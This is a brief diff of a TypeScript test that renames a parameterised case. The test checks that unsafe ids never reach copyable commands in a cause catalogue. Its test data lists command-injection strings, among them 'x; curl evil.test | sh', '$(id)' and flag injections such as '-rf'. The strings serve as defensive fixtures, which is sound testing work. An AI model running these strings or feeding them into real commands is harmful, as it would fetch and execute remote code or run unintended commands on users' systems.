@@ -3,7 +3,7 @@ import { commandsOf } from '../../../domain/catalogue/cause.ts'
 import { causeCatalogue } from '../../../domain/catalogue/catalogue.ts'
 
 test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a b', 'a\nb', ''])(
-  'nothing of a stranger’s id gets into a command that people copy: %s',
+  'no command that people copy contains the unsafe id %s',
   (id) => {
     for (const code of Object.keys(causeCatalogue) as (keyof typeof causeCatalogue)[]) {
       const names = [
